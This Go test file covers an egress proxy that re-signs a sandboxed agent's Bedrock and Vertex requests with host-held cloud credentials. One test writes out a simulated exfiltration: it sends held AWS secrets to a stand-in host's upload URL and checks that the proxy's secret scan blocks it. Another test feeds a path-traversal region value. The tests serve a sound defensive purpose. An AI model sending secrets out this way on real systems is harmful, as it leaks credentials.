package egress

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
)

// sigv4Upstream is a stand-in for a SigV4 service: it accepts a request only
// if its signature, recomputed from the signed headers with the secret the
// key id maps to, matches.
type sigv4Upstream struct {
	srv     *httptest.Server
	secrets map[string]aws.Credentials
	mu      sync.Mutex
	keys    []string // the access key id of each accepted request
	bodies  []string
	refused []string
}

func newSigV4Upstream(t *testing.T, creds ...aws.Credentials) *sigv4Upstream {
	u := &sigv4Upstream{secrets: map[string]aws.Credentials{}}
	for _, c := range creds {
		u.secrets[c.AccessKeyID] = c
	}
	u.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		key, err := u.verify(r, body)
		u.mu.Lock()
		defer u.mu.Unlock()
		if err != nil {
			u.refused = append(u.refused, err.Error())
			http.Error(w, err.Error(), http.StatusForbidden)
			return
		}
		u.keys = append(u.keys, key)
		u.bodies = append(u.bodies, string(body))
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"id":"msg_1","type":"message","model":"claude-sonnet-4-5","usage":{"input_tokens":10,"output_tokens":5}}`)
	}))
	t.Cleanup(u.srv.Close)
	return u
}

func (u *sigv4Upstream) verify(r *http.Request, body []byte) (string, error) {
	auth := r.Header.Get("Authorization")
	cred, _, _ := strings.Cut(strings.TrimPrefix(auth, "AWS4-HMAC-SHA256 Credential="), ",")
	parts := strings.Split(cred, "/")
	if len(parts) != 5 {
		return "", fmt.Errorf("no SigV4 credential in %q", auth)
	}
	c, ok := u.secrets[parts[0]]
	if !ok {
		return "", fmt.Errorf("unknown key %s", parts[0])
	}
	_, signed, _ := strings.Cut(auth, "SignedHeaders=")
	signed, _, _ = strings.Cut(signed, ",")
	when, err := time.Parse("20060102T150405Z", r.Header.Get("X-Amz-Date"))
	if err != nil {
		return "", err
	}
	sum := sha256.Sum256(body)
	hash := hex.EncodeToString(sum[:])
	if got := r.Header.Get("X-Amz-Content-Sha256"); got != hash {
		return "", fmt.Errorf("body hash %s, header says %s", hash, got)
	}
	re, _ := http.NewRequest(r.Method, "http://"+r.Host+r.URL.RequestURI(), nil)
	re.ContentLength = int64(len(body))
	for _, h := range strings.Split(signed, ";") {
		if h != "host" {
			re.Header[http.CanonicalHeaderKey(h)] = r.Header.Values(h)
		}
	}
	re.Header.Del("X-Amz-Security-Token") // the signer adds it again
	if err := v4.NewSigner().SignHTTP(context.Background(), c, re, hash, parts[3], parts[2], when); err != nil {
		return "", err
	}
	if re.Header.Get("Authorization") != auth {
		return "", fmt.Errorf("signature mismatch:\n got %s\nwant %s", auth, re.Header.Get("Authorization"))
	}
	return parts[0], nil
}

func (u *sigv4Upstream) seen() (keys, refused []string) {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.keys...), append([]string(nil), u.refused...)
}

var (
	testCreds1 = aws.Credentials{AccessKeyID: "ASIATESTKEY000000001", SecretAccessKey: "s3cr3t/first+AbCdEfGhIjKlMnOpQrStUv", SessionToken: "FwoGZXIvYXdzEXAMPLEsession1AbCdEf"}
	testCreds2 = aws.Credentials{AccessKeyID: "ASIATESTKEY000000002", SecretAccessKey: "s3cr3t/second+ZyXwVuTsRqPoNmLkJiHgF", SessionToken: "FwoGZXIvYXdzEXAMPLEsession2ZyXwVu"}
)

func cloudCreds(c aws.Credentials) CloudCredentials {
	return CloudCredentials{AccessKeyID: c.AccessKeyID, SecretAccessKey: c.SecretAccessKey, SessionToken: c.SessionToken}
}

// signedRequest sends what Claude Code sends to Bedrock with its own
// (placeholder) signature.
func signedRequest(t *testing.T, p *testProxy, method, path, body string) *http.Response {
	t.Helper()
	req, _ := http.NewRequest(method, p.apiURL+path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "AWS4-HMAC-SHA256 Credential=AKIAPLACEHOLDER/20260101/us-east-1/bedrock/aws4_request, SignedHeaders=host, Signature=00")
	req.Header.Set("X-Amz-Date", "20260101T000000Z")
	req.Header.Set("X-Amz-Security-Token", "placeholder-token")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

func TestCloudSigV4(t *testing.T) {
	runtime := newSigV4Upstream(t, testCreds1, testCreds2)
	control := newSigV4Upstream(t, testCreds1, testCreds2)
	up, _ := url.Parse(runtime.srv.URL)
	cfg := Config{
		Policy:   loopbackPolicy(t, "*.example.com"),
		Resolver: fakeResolver{"web.example.com": lo},
		API: &APIConfig{
			Upstream: up,
			Strip:    []string{"Authorization", "X-Amz-Date", "X-Amz-Security-Token", "X-Amz-Content-Sha256"},
			Routes: []APIRoute{
				{Method: "GET", Path: "/inference-profiles", Upstream: control.srv.URL},
				{Method: "POST", Path: "/model/*/invoke", Metered: true, NoTurn: true},
				{Method: "POST", Path: "/model/*/invoke-with-response-stream", Metered: true},
			},
			Cloud:            &CloudAuth{Kind: CloudSigV4, Service: "bedrock", Region: "us-east-1"},
			CloudCredentials: cloudCreds(testCreds1),
		},
		Budget: Budget{MaxTurns: 1},
	}
	srv, p := startProxyServer(t, cfg)

	body := `{"anthropic_version":"bedrock-2023-05-31","max_tokens":1,"messages":[{"role":"user","content":"."}]}`
	// Probes (NoTurn) do not spend the one turn.
	for range 2 {
		if resp := signedRequest(t, p, "POST", "/model/anthropic.claude-sonnet-4-5/invoke", body); resp.StatusCode != 200 {
			b, _ := io.ReadAll(resp.Body)
			t.Fatalf("probe: %d %s", resp.StatusCode, b)
		}
	}
	if resp := signedRequest(t, p, "POST", "/model/anthropic.claude-sonnet-4-5/invoke-with-response-stream", body); resp.StatusCode != 200 {
		t.Fatalf("turn: %d", resp.StatusCode)
	}
	if resp := signedRequest(t, p, "GET", "/inference-profiles?type=SYSTEM_DEFINED", ""); resp.StatusCode != 200 {
		t.Fatalf("control plane: %d", resp.StatusCode)
	}
	keys, refused := runtime.seen()
	if len(refused) != 0 || len(keys) != 3 || keys[0] != testCreds1.AccessKeyID {
		t.Fatalf("runtime accepted %v, refused %v", keys, refused)
	}
	if runtime.bodies[0] != body {
		t.Errorf("body changed on the way: %q", runtime.bodies[0])
	}
	if keys, refused := control.seen(); len(keys) != 1 || len(refused) != 0 {
		t.Fatalf("control plane accepted %v, refused %v", keys, refused)
	}

	// The host refreshes the credentials: the next request is signed with
	// the new ones, and the new secret may not leave by another route.
	dir := t.TempDir()
	credFile := filepath.Join(dir, "credentials.json")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go srv.WatchCredentials(ctx, credFile, t.Logf)
	data, _ := json.Marshal(cloudCreds(testCreds2))
	// Whole or not at all, as the host writes it (run/cloud.go).
	if err := os.WriteFile(credFile+".tmp", data, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(credFile+".tmp", credFile); err != nil {
		t.Fatal(err)
	}
	waitGone(t, credFile)
	if resp := signedRequest(t, p, "GET", "/inference-profiles", ""); resp.StatusCode != 200 {
		t.Fatalf("after refresh: %d", resp.StatusCode)
	}
	if keys, _ := control.seen(); keys[len(keys)-1] != testCreds2.AccessKeyID {
		t.Errorf("after refresh signed with %v, want %s", keys, testCreds2.AccessKeyID)
	}
	for _, secret := range []string{testCreds2.SecretAccessKey, testCreds2.SessionToken, testCreds1.SecretAccessKey} {
		resp, err := p.client().Get("http://web.example.com/upload?d=" + url.QueryEscape(secret))
		if err != nil {
			t.Fatal(err)
		}
		assertDenied(t, resp, "secret scan: held-secret")
	}
	// A second turn is over budget.
	if resp := signedRequest(t, p, "POST", "/model/anthropic.claude-sonnet-4-5/invoke-with-response-stream", body); resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("second turn: %d, want 429", resp.StatusCode)
	}
}

// startProxyServer is startProxy that also returns the server.
func startProxyServer(t *testing.T, cfg Config) (*Server, *testProxy) {
	t.Helper()
	var srv *Server
	p := startProxyWith(t, cfg, func(s *Server) { srv = s })
	return srv, p
}

func waitGone(t *testing.T, path string) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if _, err := os.Lstat(path); os.IsNotExist(err) {
			return
		}
	}
	t.Fatalf("%s was not taken up", path)
}

func TestCloudBearer(t *testing.T) {
	var mu sync.Mutex
	var auths []string
	api := newModelAPI(t, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auths = append(auths, r.Header.Get("Authorization"))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"usage":{"input_tokens":1,"output_tokens":1}}`)
	})
	cfg := api.config(t)
	cfg.Headers = nil
	cfg.Routes = []APIRoute{{Method: "POST", Path: "/v1/projects/p/locations/r/publishers/anthropic/models/*:rawPredict", Metered: true}}
	cfg.Cloud = &CloudAuth{Kind: CloudBearer}
	cfg.CloudCredentials = CloudCredentials{Bearer: "ya29.first-token-AbCdEfGh"}
	srv, p := startProxyServer(t, Config{Policy: loopbackPolicy(t), API: cfg})
	send := func() {
		req, _ := http.NewRequest("POST", p.apiURL+"/v1/projects/p/locations/r/publishers/anthropic/models/claude-x:rawPredict", strings.NewReader("{}"))
		req.Header.Set("Authorization", "Bearer agent-made-this-up")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("status %d", resp.StatusCode)
		}
	}
	send()
	if err := srv.SetCloudCredentials(CloudCredentials{Bearer: "ya29.second-token-ZyXwVuTs"}); err != nil {
		t.Fatal(err)
	}
	send()
	if err := srv.SetCloudCredentials(CloudCredentials{AccessKeyID: "AKIA"}); err == nil {
		t.Error("incomplete credentials were taken")
	}
	mu.Lock()
	defer mu.Unlock()
	want := []string{"Bearer ya29.first-token-AbCdEfGh", "Bearer ya29.second-token-ZyXwVuTs"}
	if strings.Join(auths, "|") != strings.Join(want, "|") {
		t.Errorf("upstream saw %q, want %q", auths, want)
	}
}

func TestReadCredentialsFileRefusesNonFiles(t *testing.T) {
	dir := t.TempDir()
	real := filepath.Join(dir, "real.json")
	os.WriteFile(real, []byte(`{"bearer":"x"}`), 0o600)
	link := filepath.Join(dir, "link.json")
	os.Symlink(real, link)
	big := filepath.Join(dir, "big.json")
	os.WriteFile(big, []byte(strings.Repeat(" ", maxCredentialsFile+1)), 0o600)
	sub := filepath.Join(dir, "dir.json")
	os.Mkdir(sub, 0o700)
	for _, path := range []string{link, big, sub, filepath.Join(dir, "bad.json")} {
		if path == filepath.Join(dir, "bad.json") {
			os.WriteFile(path, []byte("{"), 0o600)
		}
		if _, err := readCredentialsFile(path); err == nil {
			t.Errorf("%s: read", filepath.Base(path))
		}
	}
	if c, err := readCredentialsFile(real); err != nil || c.Bearer != "x" {
		t.Errorf("real file: %+v %v", c, err)
	}
}

func TestCloudAuthChecked(t *testing.T) {
	up, _ := url.Parse("http://127.0.0.1:1")
	for _, c := range []struct {
		auth  CloudAuth
		creds CloudCredentials
	}{
		{CloudAuth{Kind: "hmac"}, CloudCredentials{Bearer: "x"}},
		{CloudAuth{Kind: CloudSigV4, Service: "bedrock", Region: "us-east-1/../x"}, cloudCreds(testCreds1)},
		{CloudAuth{Kind: CloudSigV4, Service: "bedrock", Region: "us-east-1"}, CloudCredentials{}},
		{CloudAuth{Kind: CloudBearer}, CloudCredentials{}},
	} {
		_, err := NewServer(Config{API: &APIConfig{Upstream: up, Cloud: &c.auth, CloudCredentials: c.creds}})
		if err == nil {
			t.Errorf("%+v accepted", c.auth)
		}
	}
}
